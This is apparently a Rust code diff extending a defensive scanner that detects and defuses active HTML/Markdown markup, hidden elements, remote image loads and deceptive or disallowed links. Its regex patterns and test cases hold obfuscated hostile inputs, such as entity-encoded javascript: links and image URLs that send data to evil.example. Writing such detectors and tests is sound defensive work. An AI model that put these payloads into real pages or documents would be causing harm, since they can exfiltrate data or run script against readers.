@@ -3,6 +3,8 @@
 //! A scan over the bytes determines which patterns could match at all; only those are tried.
 
 use std::cmp::Reverse;
+use std::collections::BTreeSet;
+use std::ops::Range;
 
 use aho_corasick::AhoCorasick;
 use memchr::{memchr_iter, memmem};
@@ -12,6 +14,7 @@ use policy_core::subject::pattern::Pattern;
 use regex::Regex;
 
 use super::host;
+use crate::inspect::rendered::RenderedText;
 
 /// Longest authority of a URL that is read, in bytes.
 const AUTHORITY: usize = 300;
@@ -29,8 +32,17 @@ enum Defusal {
     Link,
 }
 
+/// What was found in a text.
+#[derive(Debug)]
+pub(super) struct FoundMarkup {
+    /// The matches, in order.
+    pub(super) matches: Vec<MarkupMatch>,
+    /// The text as it is read, where it is read in another way than it stands.
+    rendered: Option<RenderedText>,
+}
+
 /// A range of a text that is active markup or a suspicious link.
-#[derive(Clone, Copy, Debug)]
+#[derive(Clone, Debug)]
 pub(super) struct MarkupMatch {
     pub(super) from: usize,
     pub(super) end: usize,
@@ -38,15 +50,17 @@ pub(super) struct MarkupMatch {
     /// Whether it is a link that is deceptive or leads to a host that is not permitted.
     pub(super) is_link: bool,
     fix: Defusal,
+    /// The range of the text as it is read, if it is read in another way than it stands.
+    rendered: Option<Range<usize>>,
 }
+
+const FAR_IMAGE: &str = "has an image that is loaded from elsewhere";
 
 /// The sign that must occur in a text for a pattern to be tried.
 #[derive(Clone, Copy, PartialEq, Eq)]
 enum MarkupTrigger {
     /// A `<` and a letter, `/` or `!`.
     Tag,
-    /// The beginning of an image, `![`.
-    Image,
     /// One of the words in [`WORDS`].
     Word,
 }
@@ -60,36 +74,37 @@ const WORDS: [&str; 15] = [
     "data:image/svg",
     "data:text/xml",
     "data:application/x",
-    "](command:",
-    "](vscode",
-    "](cursor:",
-    "](ms-",
-    "](search-ms:",
-    "](file:",
+    "command:",
+    "vscode",
+    "cursor:",
+    "ms-",
+    "search-ms:",
+    "file:",
     "[//]:",
     "@import",
 ];
 
 #[rustfmt::skip]
-const SPECS: [(MarkupTrigger, Defusal, &str, &str); 12] = [
+const SPECS: [(MarkupTrigger, Defusal, &str, &str); 13] = [
     (MarkupTrigger::Tag, Defusal::Tag, "has a comment that is not shown", r"(?s)<!--.*?(?:-->|\z)"),
     (MarkupTrigger::Tag, Defusal::Tag, "has an element that runs or loads something",
         r"(?is)<(?:script|style|iframe|object|svg|math|template|noscript)\b.*?</(?:script|style|iframe|object|svg|math|template|noscript)\s*>"),
     (MarkupTrigger::Tag, Defusal::Tag, "has an element that runs or loads something",
         r"(?i)</?(?:script|style|iframe|frame|frameset|object|embed|applet|link|svg|math|form|base|portal|foreignobject)\b[^<>]*>?"),
     (MarkupTrigger::Tag, Defusal::Tag, "has an element that loads something from elsewhere",
-        r#"(?i)<(?:img|image|video|audio|source|track|input|body|table|td|th|use|picture)\b[^<>]*[\s"'/](?:src|srcset|background|poster|href|xlink:href)\s*=\s*["']?\s*(?:https?:)?//[^<>]*>?"#),
+        r#"(?i)<(?:img|image|feimage|video|audio|source|track|input|body|table|td|th|use|picture)\b[^<>]*[\s"'/](?:src|srcset|background|poster|href|xlink:href)\s*=\s*["']?\s*(?:https?:[/\\]*|[/\\]{2,})[^<>]*>?|<a\b[^<>]*[\s"'/]ping\s*=[^<>]*>?"#),
     (MarkupTrigger::Tag, Defusal::Tag, "has an element that leads elsewhere by itself", r"(?i)<meta\b[^<>]*\bhttp-equiv\b[^<>]*>?"),
     (MarkupTrigger::Tag, Defusal::Tag, "has an element that runs something",
         r#"(?i)<[a-z][^<>]*[\s/"']on[a-z]{3,20}\s*=[^<>]*>?"#),
     (MarkupTrigger::Tag, Defusal::Tag, "has a style that loads something",
-        r"(?i)<[a-z][^<>]*\bstyle\s*=[^<>]*\burl\s*\([^<>]*>?"),
+        r"(?i)<[a-z][^<>]*\bstyle\s*=[^<>]*\b(?:url|image-set)\s*\([^<>]*>?"),
     (MarkupTrigger::Tag, Defusal::Tag, "has an element that is not shown",
-        r#"(?i)<[a-z][^<>]*\bstyle\s*=[^<>]*(?:display\s*:\s*none|visibility\s*:\s*hidden|font-size\s*:\s*0|opacity\s*:\s*0(?:[;"'\s]|\.0))[^<>]*>?"#),
-    (MarkupTrigger::Image, Defusal::Image, "has an image that is loaded from elsewhere",
-        r"!\[[^\]\n]*\](?:\(\s*<?\s*(?i:https?:)?//[^)\n]*\)?|\[[^\]\n]*\])"),
+        r#"(?i)<[a-z][^<>]*\bstyle\s*=[^<>]*(?:display\s*:\s*none|visibility\s*:\s*hidden|font-size\s*:\s*0|opacity\s*:\s*0*(?:\.0|0(?:[;"'%\s]|\z))|(?:left|top|right|bottom|text-indent)\s*:\s*-\d{4}|["';\s]color\s*:\s*transparent|scale\(\s*0\s*[,)]|clip\s*:\s*rect\(\s*0|clip-path\s*:\s*inset\(\s*(?:50|100)%)[^<>]*>?"#),
+    (MarkupTrigger::Tag, Defusal::Tag, "has an element that is not shown",
+        r#"(?i)<[a-z][\w:-]*(?:[\s/]+[^\s"'<>/=]+(?:\s*=\s*(?:"[^"<]*"|'[^'<]*'|[^\s"'<>]+))?)*?[\s/]+hidden(?:\s*=\s*["'\w][^<>]*>?|[\s/][^<>]*>?|>|\z)"#),
+    (MarkupTrigger::Tag, Defusal::Tag, "has a comment that is not shown", r"<(?:![^->][^>]*\s[^>]*\s[^>]*|!\s[^>]*|\?[^>]*|/\s[^>]*|/[^a-zA-Z>/*\s][^>]*\s[^>\s][^>]*)>"),
     (MarkupTrigger::Word, Defusal::Scheme, "has a link that runs something",
-        r"(?i)\b(?:javascript|vbscript|livescript):|\bdata:(?:text/html|text/xml|image/svg|application/x)|\]\(\s*<?(?:command|vscode[\w-]*|cursor|ms-[\w-]+|search-ms|file):"),
+        r#"(?i)\b(?:javascript|vbscript|livescript):|\bdata:(?:text/html|text/xml|image/svg|application/x)|(?:\]\(\s*<?|\b(?:href|src)\s*=\s*["']?\s*)(?:command|vscode[\w-]*|cursor|ms-[\w-]+|search-ms|file):"#),
     (MarkupTrigger::Word, Defusal::Scheme, "has a comment that is not shown", r"(?m)^\s*\[//\]:[^\n]*"),
     (MarkupTrigger::Word, Defusal::Scheme, "has a style that loads something", r#"(?i)@import\s+(?:url\()?\s*["']?(?:https?:)?//[^;\s]*"#),
 ];
@@ -112,60 +127,125 @@ static COMPILED: Compiled<MarkupPatterns> = Compiled::new(|| {
     Ok(MarkupPatterns { words, patterns, mismatch: mismatch? })
 });
 
-/// All active markup and suspicious links in a text, in order. `hosts` are those that links may lead to; empty: all.
-/// The search ends when `budget` is exhausted.
-pub(super) fn find(text: &str, hosts: &[Pattern], budget: &WorkBudget) -> Vec<MarkupMatch> {
-    let (mut found, bytes) = (Vec::new(), text.as_bytes());
-    let Some(compiled) = COMPILED.get() else { return found };
+/// All active markup and suspicious links in a text, as it stands and as it is read. `hosts` are those that links may lead
+/// to; empty: all. The search ends when `budget` is exhausted.
+pub(super) fn find(text: &str, hosts: &[Pattern], budget: &WorkBudget) -> FoundMarkup {
+    let mut matches = Vec::new();
+    search(text, hosts, budget, &mut matches);
+    let rendered = RenderedText::of(text).filter(|_| budget.spend(text.len()));
+    if let Some(rendered) = &rendered {
+        let from = matches.len();
+        search(rendered.as_str(), hosts, budget, &mut matches);
+        for one in matches.iter_mut().skip(from) {
+            let range = one.from..one.end;
+            Range { start: one.from, end: one.end } = rendered.source(range.clone());
+            // What is read in another way is shorter.
+            one.rendered = (range.len() < one.end - one.from).then_some(range);
+        }
+    }
+    // Of two matches of one range, the one that is read there comes first: it is what has to be defused.
+    matches.sort_by_key(|one| (one.from, Reverse(one.end), one.rendered.is_none()));
+    let mut last = [0; 2];
+    matches.retain(|one| {
+        let end = last.get_mut(usize::from(one.is_link));
+        let inside = end.as_ref().is_some_and(|end| one.end <= **end);
+        end.into_iter().for_each(|end| *end = one.end.max(*end));
+        !inside
+    });
+    FoundMarkup { matches, rendered }
+}
+
+/// Appends the active markup and the suspicious links of a text.
+fn search(text: &str, hosts: &[Pattern], budget: &WorkBudget, found: &mut Vec<MarkupMatch>) {
+    let (Some(compiled), bytes) = (COMPILED.get(), text.as_bytes()) else { return };
     let next = |at: usize| bytes.get(at + 1).copied().unwrap_or_default();
-    let is_tag = |at: usize| next(at).is_ascii_alphabetic() || matches!(next(at), b'/' | b'!');
+    let is_tag =
+        |at: usize| next(at).is_ascii_alphabetic() || matches!(next(at), b'/' | b'!' | b'?');
     let tag = memchr_iter(b'<', bytes).any(is_tag);
-    let image = has_pair(bytes, *b"![");
-    let word = signs_of_words(bytes) && compiled.words.is_match(bytes);
-    // Whether reference definitions lead elsewhere depends on the whole text, so it is determined once.
-    let refers = image && refers(bytes);
+    let word = signs_of_words(bytes, tag) && compiled.words.is_match(bytes);
     for (sign, fix, note, pattern) in &compiled.patterns {
         let could = match sign {
             MarkupTrigger::Tag => tag,
-            MarkupTrigger::Image => image,
             MarkupTrigger::Word => word,
         };
         if !could {
             continue;
         }
         if !budget.spend(text.len()) {
-            return found;
+            return;
         }
         for one in pattern.find_iter(text) {
-            // An image by reference loads something only if its definition leads elsewhere.
-            if *fix == Defusal::Image && one.as_str().ends_with(']') && !refers {
+            if is_declaration(one.as_str()) {
                 continue;
             }
             if !budget.spend(EACH_FOUND) {
-                return found;
+                return;
             }
-            let (from, end) = (one.start(), one.end());
-            found.push(MarkupMatch { from, end, note, is_link: false, fix: *fix });
+            found.push(MarkupMatch::new(one.range(), note, *fix));
         }
     }
-    links(text, hosts, budget, &mut found);
-    if (has_pair(bytes, *b"](") || tag) && budget.spend(text.len()) {
-        mismatches(&compiled.mismatch, text, budget, &mut found);
+    if has_pair(bytes, *b"![") && budget.spend(text.len()) {
+        for image in far_images(text) {
+            if !budget.spend(EACH_FOUND) {
+                return;
+            }
+            found.push(MarkupMatch::new(image, FAR_IMAGE, Defusal::Image));
+        }
     }
-    found.sort_by_key(|one| (one.from, Reverse(one.end)));
-    let mut last = [0; 2];
-    found.retain(|one| {
-        let end = last.get_mut(usize::from(one.is_link));
-        let inside = end.as_ref().is_some_and(|end| one.end <= **end);
-        end.into_iter().for_each(|end| *end = one.end.max(*end));
-        !inside
-    });
-    found
+    links(text, hosts, budget, found);
+    if (has_pair(bytes, *b"](") || tag) && budget.spend(text.len()) {
+        mismatches(&compiled.mismatch, text, budget, found);
+    }
+}
+
+impl MarkupMatch {
+    const fn new(range: Range<usize>, note: &'static str, fix: Defusal) -> Self {
+        let is_link = matches!(fix, Defusal::Link);
+        Self { from: range.start, end: range.end, note, is_link, fix, rendered: None }
+    }
+}
+
+/// Whether this is a declaration or an instruction that documents and programs have: a reader of HTML takes everything else
+/// that begins with `<!` or `<?` for a comment.
+fn is_declaration(text: &str) -> bool {
+    const KNOWN: [&str; 11] = [
+        "<!doctype",
+        "<![cdata[",
+        "<!element",
+        "<!entity",
+        "<!attlist",
+        "<!notation",
+        "<?xml version",
+        "<?xml-stylesheet",
+        "<?php",
+        "<?=",
+        "<?hh",
+    ];
+    let begins = |known: &str| {
+        text.get(..known.len()).is_some_and(|start| start.eq_ignore_ascii_case(known))
+    };
+    match text.as_bytes().get(1) {
+        Some(b'!') => KNOWN.into_iter().any(begins),
+        Some(b'?') => KNOWN.into_iter().any(begins) || is_wildcard(text),
+        _ => false,
+    }
+}
+
+/// Whether these are arguments of a type in Java, the first of which is unknown: `<?>`, `<? extends T, V>`.
+fn is_wildcard(text: &str) -> bool {
+    let arguments = text.trim_start_matches('<').trim_end_matches('>');
+    arguments.split(',').all(|argument| {
+        let mut words = argument.split_whitespace();
+        matches!(
+            (words.next(), words.next(), words.next(), words.next()),
+            (Some(_), None, ..) | (Some("?"), Some("extends" | "super"), Some(_), None)
+        )
+    })
 }
 
 /// Whether a text could contain one of [`WORDS`]: all have a colon behind a letter or `]`, or an `@`.
-fn signs_of_words(bytes: &[u8]) -> bool {
-    let link = has_pair(bytes, *b"](");
+fn signs_of_words(bytes: &[u8], has_tags: bool) -> bool {
+    let link = has_tags || has_pair(bytes, *b"](");
     let begins = [&b"script"[..], b"data", b"[//]"];
     memchr::memchr2_iter(b':', b'@', bytes).any(|at| match bytes.get(at) {
         Some(b'@') => bytes.get(at + 1).is_some_and(|next| next.eq_ignore_ascii_case(&b'i')),
@@ -184,11 +264,99 @@ fn ends_with(bytes: &[u8], at: usize, word: &[u8]) -> bool {
     start.and_then(|start| bytes.get(start..at)).is_some_and(|w| w.eq_ignore_ascii_case(word))
 }
 
-/// Whether a text defines a link reference to another host.
-fn refers(bytes: &[u8]) -> bool {
-    [&b"]: http"[..], b"]: //", b"]:http", b"]: <http"]
-        .iter()
-        .any(|sign| memmem::find(bytes, sign).is_some())
+/// The images of Markdown that are loaded from elsewhere. What an image shows may have brackets in it (CommonMark, sections
+/// 6.3 and 6.4), and code with a bracket that counts for nothing: so an image is also what one of the two would be.
+fn far_images(text: &str) -> Vec<Range<usize>> {
+    let (bytes, labels) = (text.as_bytes(), far_labels(text));
+    let is_image =
+        |from: &usize| from.checked_sub(1).and_then(|before| bytes.get(before)) == Some(&b'!');
+    let (mut found, mut done, mut escaped) = (Vec::new(), 0, None);
+    // The brackets that are open, and whether an image with no bracket in it ends at the next one.
+    let (mut open, mut recent) = (Vec::new(), None);
+    for at in memchr::memchr3_iter(b'[', b']', b'\\', bytes) {
+        if at < done || escaped == Some(at) {
+            continue;
+        }
+        match bytes.get(at) {
+            Some(b'\\') => {
+                escaped = Some(at + 1);
+                continue;
+            }
+            Some(b'[') => {
+                open.push(at);
+                recent = Some(at).filter(is_image).or(recent);
+                continue;
+            }
+            _ => {}
+        }
+        let (first, inner) = (recent.take(), open.pop());
+        let Some(from) = inner.filter(is_image).or(first) else { continue };
+        let behind = text.get(at + 1..).unwrap_or_default();
+        let end = match behind.as_bytes().first() {
+            Some(b'(') => behind
+                .get(1..)
+                .filter(|target| is_far(target))
+                .map(|_| behind.find([')', '\n']).map_or(behind.len(), |end| end + 1)),
+            // By reference, if its definition leads there.
+            Some(b'[') if labels.is_empty() => None,
+            Some(b'[') => behind.find(']').map(|end| end + 1),
+            _ => {
+                let label =
+                    text.get(from + 1..at).filter(|_| first.is_some() && !labels.is_empty());
+                let is_known = label.is_some_and(|label| labels.contains(&label_of(label)));
+                if !is_known {
+                    // The bracket may count for nothing.
+                    open.push(from);
+                }
+                is_known.then_some(0)
+            }
+        };
+        if let Some(end) = end {
+            done = at + 1 + end;
+            found.push(from - 1..done);
+        }
+    }
+    found
+}
+
+/// Whether a target leads to another host: an address with `http:` or with two slashes in front.
+fn is_far(target: &str) -> bool {
+    let target = target.trim_ascii_start();
+    let target = target.strip_prefix('<').map_or(target, str::trim_ascii_start).as_bytes();
+    let slashes = target.iter().take(2).filter(|byte| matches!(byte, b'/' | b'\\')).count();
+    let begins = |scheme: &[u8]| {
+        target.get(..scheme.len()).is_some_and(|start| start.eq_ignore_ascii_case(scheme))
+    };
+    slashes == 2 || begins(b"http:") || begins(b"https:")
+}
+
+/// Where the first target that leads to another host begins, less `](`.
+fn far_target(text: &str) -> Option<usize> {
+    let mut targets = text.match_indices("](");
+    targets.find(|(at, _)| text.get(at + 2..).is_some_and(is_far)).map(|(at, _)| at)
+}
+
+/// The labels of link references that lead to another host.
+fn far_labels(text: &str) -> BTreeSet<String> {
+    let (mut found, mut begins) = (BTreeSet::new(), None);
+    for at in memchr::memchr2_iter(b'[', b']', text.as_bytes()) {
+        if text.as_bytes().get(at) == Some(&b'[') {
+            begins = Some(at + 1);
+            continue;
+        }
+        let behind = text.get(at + 1..).and_then(|behind| behind.strip_prefix(':'));
+        if let Some(label) = begins.take().and_then(|from| text.get(from..at))
+            && behind.is_some_and(is_far)
+        {
+            found.insert(label_of(label));
+        }
+    }
+    found
+}
+
+/// A label as it is compared (CommonMark, section 6.3).
+fn label_of(text: &str) -> String {
+    text.split_whitespace().collect::<Vec<_>>().join(" ").to_lowercase()
 }
 
 /// A link that is shown and cannot be followed: `hxxps://host[.]example/path`.
@@ -202,6 +370,11 @@ fn dead(text: &str) -> String {
         "ftp" => "fxp",
         "ws" => "wxs",
         "wss" => "wxss",
+        "sftp" => "sfxp",
+        "ssh" => "sxh",
+        "smb" => "sxb",
+        "git" => "gxt",
+        "file" => "fxle",
         _ => "hxxp",
     };
     let rest = rest.trim_start_matches(['/', '\\']);
@@ -210,11 +383,19 @@ fn dead(text: &str) -> String {
     format!("{scheme}://{}{path}", host.replace('.', "[.]"))
 }
 
-/// The text of a match, defused.
-pub(super) fn defanged(one: &MarkupMatch, text: &str) -> String {
-    match one.fix {
+impl FoundMarkup {
+    /// The text of a match, defused.
+    pub(super) fn defanged(&self, one: &MarkupMatch, text: &str) -> String {
+        let rendered = self.rendered.as_ref().zip(one.rendered.clone());
+        let read = rendered.and_then(|(rendered, range)| rendered.as_str().get(range));
+        defanged(one.fix, read.unwrap_or(text))
+    }
+}
+
+fn defanged(fix: Defusal, text: &str) -> String {
+    match fix {
         Defusal::Tag => text.replace('<', "&lt;"),
-        Defusal::Image => match text.find("](") {
+        Defusal::Image => match far_target(text) {
             Some(at) => {
                 let (shown, target) = text.split_at_checked(at + 2).unwrap_or((text, ""));
                 format!("{}{}", shown.trim_start_matches('!'), dead(target))
@@ -229,51 +410,106 @@ pub(super) fn defanged(one: &MarkupMatch, text: &str) -> String {
 /// Appends the links that are deceptive or lead to a host that is not permitted.
 fn links(text: &str, hosts: &[Pattern], budget: &WorkBudget, found: &mut Vec<MarkupMatch>) {
     let bytes = text.as_bytes();
-    // The end of the last link, so that each byte of a path is scanned once.
-    let mut ended = 0;
-    for at in memchr::memchr2_iter(b':', b'/', bytes) {
-        let Some((from, start)) = begins(bytes, at) else { continue };
-        let authority = authority(text, start);
-        if !budget.spend(AUTHORITY) {
-            return;
+    let signs = memchr::memchr3_iter(b':', b'/', b'\\', bytes);
+    let signs = signs.filter_map(|at| begins(bytes, at));
+    // An address without a scheme, of which GitHub and others make a link.
+    let is_alone = |at: &usize| {
+        let before = at.checked_sub(1).and_then(|before| bytes.get(before));
+        before.is_none_or(|byte| byte.is_ascii_whitespace() || b"*_~(<\"'".contains(byte))
+    };
+    let bare = memmem::find_iter(bytes, b"www.").filter(is_alone).map(|at| (at, at));
+    let mut each = |places: &mut dyn Iterator<Item = (usize, usize)>| {
+        // The end of the last link, so that each byte of a path is scanned once.
+        let mut ended = 0;
+        for (from, start) in places {
+            let authority = authority(text, start);
+            if !budget.spend(AUTHORITY) {
+                return;
+            }
+            let Some(note) = host::note(authority, hosts) else { continue };
+            if !budget.spend(EACH_FOUND) {
+                return;
+            }
+            let behind = start + authority.len();
+            if ended < behind {
+                let rest = text.get(behind..).unwrap_or_default();
+                let path = rest.find(|c: char| c.is_whitespace() || "\"'<>)]}|\\`^".contains(c));
+                ended = behind + path.unwrap_or(rest.len());
+            }
+            found.push(MarkupMatch::new(from..ended, note, Defusal::Link));
         }
-        let Some(note) = host::note(authority, hosts) else { continue };
-        if !budget.spend(EACH_FOUND) {
-            return;
-        }
-        let behind = start + authority.len();
-        if ended < behind {
-            let rest = text.get(behind..).unwrap_or_default();
-            let path = rest.find(|c: char| c.is_whitespace() || "\"'<>)]}|\\`^".contains(c));
-            ended = behind + path.unwrap_or(rest.len());
-        }
-        found.push(MarkupMatch { from, end: ended, note, is_link: true, fix: Defusal::Link });
-    }
+    };
+    each(&mut { signs });
+    each(&mut { bare });
 }
 
-/// The start of the link with slashes at a place, and the start of its authority: a scheme that browsers follow and
-/// slashes of either kind (browsers accept one for two), or two slashes in the position of a link
-/// target.
+/// The start of the link at a place, and the start of its authority: a scheme that leads to a host and slashes of either kind
+/// (browsers accept one for two, and none where a link leads), or two slashes where a link leads.
 fn begins(bytes: &[u8], at: usize) -> Option<(usize, usize)> {
+    /// The schemes that browsers follow without slashes too (WHATWG URL, section 4.2), and others.
+    const SPECIAL: [&str; 5] = ["https", "http", "ftp", "wss", "ws"];
+    const OTHERS: [&str; 5] = ["file", "sftp", "ssh", "smb", "git"];
     let behind = bytes.get(at + 1..)?;
-    let slashes = |most| behind.iter().take(most).take_while(|b| matches!(b, b'/' | b'\\')).count();
+    let slashes =
+        || behind.iter().take(AUTHORITY).take_while(|b| matches!(b, b'/' | b'\\')).count();
     if bytes.get(at) == Some(&b':') {
-        let slashes = slashes(AUTHORITY);
         let before = bytes.get(at.saturating_sub(6)..at)?;
-        let scheme = ["https", "http", "ftp", "wss", "ws"].into_iter().find(|scheme| {
+        let is_scheme = |scheme: &str| {
             let start = before.len().checked_sub(scheme.len());
             let same = start.and_then(|start| before.get(start..));
             let whole = start.is_some_and(|start| {
                 start == 0 || before.get(start - 1).is_some_and(|b| !b.is_ascii_alphanumeric())
             });
             whole && same.is_some_and(|word| word.eq_ignore_ascii_case(scheme.as_bytes()))
-        })?;
-        return (slashes > 0).then_some((at - scheme.len(), at + 1 + slashes));
+        };
+        if let Some(scheme) = SPECIAL.into_iter().find(|scheme| is_scheme(scheme)) {
+            let (from, slashes) = (at - scheme.len(), slashes());
+            // Not `http::header`, which is a name in a program.
+            let is_link = || bytes.get(..from).is_some_and(|before| before.ends_with(b"<"));
+            let leads = slashes > 0
+                || behind.first() != Some(&b':') && (is_link() || is_behind(bytes, from, &LINKS));
+            return leads.then_some((from, at + 1 + slashes));
+        }
+        let scheme = OTHERS.into_iter().find(|scheme| is_scheme(scheme))?;
+        // The third slash of `file:///` begins a path, and so does the letter of a drive.
+        let is_drive = scheme == "file" && matches!(behind.get(2..4), Some([_, b':' | b'|']));
+        return (slashes() == 2 && !is_drive).then_some((at - scheme.len(), at + 3));
     }
-    let before = bytes.get(at.saturating_sub(3)..at)?;
-    let target = [&b"("[..], b"(<", b"=\"", b"='", b"=", b"]: ", b"]:", b"<"];
-    let first = slashes(2) == 1 && target.iter().any(|sign| before.ends_with(sign));
-    first.then_some((at, at + 2))
+    // Only the first of several slashes, so that they are counted once.
+    let is_slash = |at: usize| matches!(bytes.get(at), Some(b'/' | b'\\'));
+    if at.checked_sub(1).is_some_and(is_slash) || !is_slash(at + 1) {
+        return None;
+    }
+    let slashes = slashes();
+    // Exactly two behind a sign that has other meanings: a regular expression may have more.
+    let leads = slashes == 1 && is_target(bytes, at)
+        || is_behind(bytes, at, &LINKS) && !is_comment(bytes, at, at + 1 + slashes);
+    leads.then_some((at, at + 1 + slashes))
+}
+
+/// Whether the slashes up to `end` begin a comment of a program: in a line of their own, and with no host behind them.
+fn is_comment(bytes: &[u8], at: usize, end: usize) -> bool {
+    let before = bytes.get(..at).unwrap_or_default();
+    let blanks = before.get(before.trim_ascii_end().len()..).unwrap_or_default();
+    let is_host = |byte: &u8| !byte.is_ascii_whitespace() && *byte != b'!';
+    blanks.contains(&b'\n') && !bytes.get(end).is_some_and(is_host)
+}
+
+/// What stands in front of the address of a link, in front of blanks too. In a program, comments have none of it in front.
+const LINKS: [&[u8]; 9] =
+    [b"](", b"](<", b"]:", b"href=", b"href=\"", b"href='", b"src=", b"src=\"", b"src='"];
+
+/// Whether two slashes at a place stand where a link leads: behind a parenthesis or in the value of an attribute.
+fn is_target(bytes: &[u8], at: usize) -> bool {
+    const SIGNS: [&[u8]; 6] = [b"(", b"(<", b"=\"", b"='", b"=", b"<"];
+    let before = bytes.get(..at).unwrap_or_default();
+    bytes.get(at) == Some(&b'/') && SIGNS.iter().any(|sign| before.ends_with(sign))
+}
+
+/// Whether one of these signs stands in front of a place, with or without blanks between.
+fn is_behind(bytes: &[u8], at: usize, signs: &[&[u8]]) -> bool {
+    let before = bytes.get(..at).unwrap_or_default().trim_ascii_end();
+    signs.iter().any(|sign| before.ends_with(sign))
 }
 
 /// The authority that begins at a place. Before an `@`, a browser does not end it at the characters that end one in
@@ -310,8 +546,7 @@ fn mismatches(pattern: &Regex, text: &str, budget: &WorkBudget, found: &mut Vec<
         }
         let Some(target) = target.filter(|_| shown != led) else { continue };
         let note = "has a link that shows another address than it leads to";
-        let (from, end) = (target.start(), target.end());
-        found.push(MarkupMatch { from, end, note, is_link: true, fix: Defusal::Link });
+        found.push(MarkupMatch::new(target.range(), note, Defusal::Link));
     }
 }
 
@@ -321,10 +556,23 @@ mod tests {
     use policy_core::subject::pattern::Pattern;
     use proptest::prelude::*;
 
-    use super::{COMPILED, defanged, find};
+    use super::{COMPILED, FoundMarkup};
+
+    fn find(text: &str, hosts: &[Pattern]) -> FoundMarkup {
+        super::find(text, hosts, &WorkBudget::unlimited())
+    }
 
     fn notes(text: &str) -> Vec<&'static str> {
-        find(text, &[], &WorkBudget::unlimited()).into_iter().map(|one| one.note).collect()
+        find(text, &[]).matches.into_iter().map(|one| one.note).collect()
+    }
+
+    /// The text with the first match defused; `None` if nothing is found in it.
+    fn defused(text: &str, hosts: &[Pattern]) -> Option<String> {
+        let found = find(text, hosts);
+        let one = found.matches.first()?;
+        let idle = found.defanged(one, text.get(one.from..one.end).unwrap());
+        let (before, behind) = (text.get(..one.from).unwrap(), text.get(one.end..).unwrap());
+        Some([before, &idle, behind].concat())
     }
 
     #[test]
@@ -386,7 +634,17 @@ mod tests {
             "<meta charset=utf-8>",
             "data: text",
             "arr![0]",
+            "vec![0] of [docs](https://example.org) and\n\n[other]: https://example.org",
+            "![x](./a.png) and ![y]\n\n[y]: ./b.png",
             "the key: //",
+            "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=y&#62;",
+            "Vec<!, T> and echo <!world'>",
+            "<p class=\"md:block hidden lg:flex\" aria-hidden=\"true\" data-hidden>x</p>",
+            "<input type=\"hidden\" name=x> <Foo hidden={open}>",
+            "<p style=\"background-color:transparent;margin-left:-20px;opacity:0.5\">",
+            "<!DOCTYPE html> <?xml version=\"1.0\"?> <?php echo 1; ?> <![CDATA[ words ]]> <!ENTITY a \"b\">",
+            "List<?> a; Map<? extends K, ? super V> b; Class<?, T> c; <></> </_a> </été>",
+            "a C:\\:\\/ path and a regular expression \\: \\/\\/ beside [a](b)",
         ] {
             assert_eq!(notes(text), [""; 0], "{text}");
         }
@@ -411,7 +669,7 @@ mod tests {
             ("ftp://example.com", true),
             ("https://example.org./", false),
         ] {
-            assert_eq!(!find(text, &hosts, &WorkBudget::unlimited()).is_empty(), found, "{text}");
+            assert_eq!(!find(text, &hosts).matches.is_empty(), found, "{text}");
         }
         for text in [
             "https://example.com/x",
@@ -424,17 +682,109 @@ mod tests {
             "http:\\\\example.com",
             "http://[::1]/",
         ] {
-            let one = find(text, &hosts, &WorkBudget::unlimited())[0];
-            let (before, rest) = text.split_at_checked(one.from).unwrap();
-            let (link, behind) = rest.split_at_checked(one.end - one.from).unwrap();
-            let idle = format!("{before}{}{behind}", defanged(&one, link));
-            assert!(find(&idle, &hosts, &WorkBudget::unlimited()).is_empty(), "{idle}");
+            let idle = defused(text, &hosts).unwrap();
+            assert!(find(&idle, &hosts).matches.is_empty(), "{idle}");
         }
-        let one = find("see https://evil.example/a.b?c=d now", &hosts, &WorkBudget::unlimited())[0];
         assert_eq!(
-            defanged(&one, "https://evil.example/a.b?c=d"),
-            "hxxps://evil[.]example/a.b?c=d"
+            defused("see https://evil.example/a.b?c=d now", &hosts).unwrap(),
+            "see hxxps://evil[.]example/a.b?c=d now"
         );
+    }
+
+    /// What programs that show HTML and Markdown follow, load and run.
+    #[test]
+    fn what_does_something_is_found_as_it_is_read() {
+        for text in [
+            "![x](https&#58;//evil.example/?d=1)",
+            "![x](https&#x3a;//evil.example/?d=1)",
+            "![x](https&colon;//evil.example/?d=1)",
+            "![x](&#104;ttps://evil.example/?d=1)",
+            "![x](https:&#47;&#47;evil.example/?d=1)",
+            "![x](https\\://evil.example/?d=1)",
+            "![x](/\\\\evil.example/?d=1)",
+            "![x](https:evil.example/?d=1)",
+            "![x]( //evil.example/?d=1 )",
+            "![a [b [c]] d](https://evil.example/?d=1)",
+            "![a\nb](https://evil.example/?d=1)",
+            "![a\\]b](https://evil.example/?d=1)",
+            "![a `]` b](https://evil.example/?d=1)",
+            "![a `[` b](https://evil.example/?d=1)",
+            "![x](https://evil.example/a]\n)",
+            "![x]\n\n[X]: https://evil.example/p.png",
+            "![x][]\n\n[x]:                     //evil.example/p.png",
+            "![x][r]\n\n[r]: https&#58;//evil.example/?d=1",
+            "![x][r]\n\n[r]:\n  <//evil.example>",
+            "<img src=\"https&#58;//evil.example/?d=1\">",
+            "<img src=\"ht\ntps://evil.example/?d=1\">",
+            "<img src=\"https:evil.example/?d=1\">",
+            "[x](javascript&#58;alert(1))",
+            "[x](javascript&colon;alert(1))",
+            "[x](java&Tab;script:alert(1))",
+            "[x](<java\tscript:alert(1)>)",
+            "[x](javascript\\:alert(1))",
+            "<a href=\"javascript&colon;alert(1)\">",
+            "<a href=\"java\nscript:alert(1)\">",
+            "<a href='java&NewLine;script:alert(1)'>",
+            "[x](vscode&#58;//x/y)",
+            "[x](<vscode://x/y>)",
+            "<a href=\"vscode://x/y\">",
+            "![x](data&#58;image/svg+xml,x)",
+            "<div hidden>words</div>",
+            "<div class=x hidden=\"\">words</div>",
+            "<p style=\"display&#58;none\">x</p>",
+            "<p style=\"d\\69splay:none\">x</p>",
+            "<p style=\"opacity:.01\">x</p>",
+            "<p style=\"position:absolute;left:-9999px\">x</p>",
+            "<p style=\"color:transparent\">x</p>",
+            "<p style=\"background:u\\72l(//evil.example)\">",
+            "<p style=\"background:image-set('//evil.example' 1x)\">",
+            "<! words >",
+            "<? words ?>",
+            "</ words>",
+            "<feImage href=\"//evil.example/x\">",
+            "<a ping=\"//evil.example\" href=\"#\">",
+        ] {
+            assert!(!notes(text).is_empty(), "{text}");
+            let mut now = text.to_owned();
+            for _ in 0..4 {
+                now = defused(&now, &[]).unwrap_or(now);
+            }
+            assert_eq!(notes(&now), [""; 0], "{text}: {now}");
+        }
